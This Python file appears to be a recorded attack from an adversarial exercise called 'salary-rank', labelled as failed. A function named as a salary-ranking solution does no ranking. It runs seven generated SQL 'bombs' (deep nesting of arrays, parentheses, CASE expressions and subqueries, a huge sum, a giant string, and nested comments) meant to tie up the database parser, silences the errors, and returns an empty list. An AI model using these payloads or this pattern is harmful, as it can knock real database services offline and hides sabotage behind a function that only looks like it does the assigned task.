# /// attack
# exercise = "salary-rank"
# trick = "short statements that keep a parser of SQL busy for ever, and a very long one"
# outcome = ["failed"]
# witness = ["update-salary"]
# ///

from contextlib import suppress

from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

_BOMBS = (
    "SELECT " + "ARRAY[" * 40 + "1" + "]" * 40,
    "SELECT " + "(" * 300 + "1" + ")" * 300,
    "SELECT " + "CASE WHEN true THEN " * 200 + "1" + " END" * 200,
    "SELECT * FROM " + "(SELECT * FROM " * 60 + "employees" + ") x" * 60,
    "SELECT " + "1+" * 5_000 + "1",
    "SELECT '" + "''" * 400_000 + "'",
    "SELECT " + "/*" * 2_000 + "*/" * 2_000 + "1",
)


async def salary_rank_by_department(session):
    for bomb in _BOMBS:
        with suppress(DBAPIError, RecursionError):
            async with session.begin_nested():
                await session.execute(text(bomb))
    return []
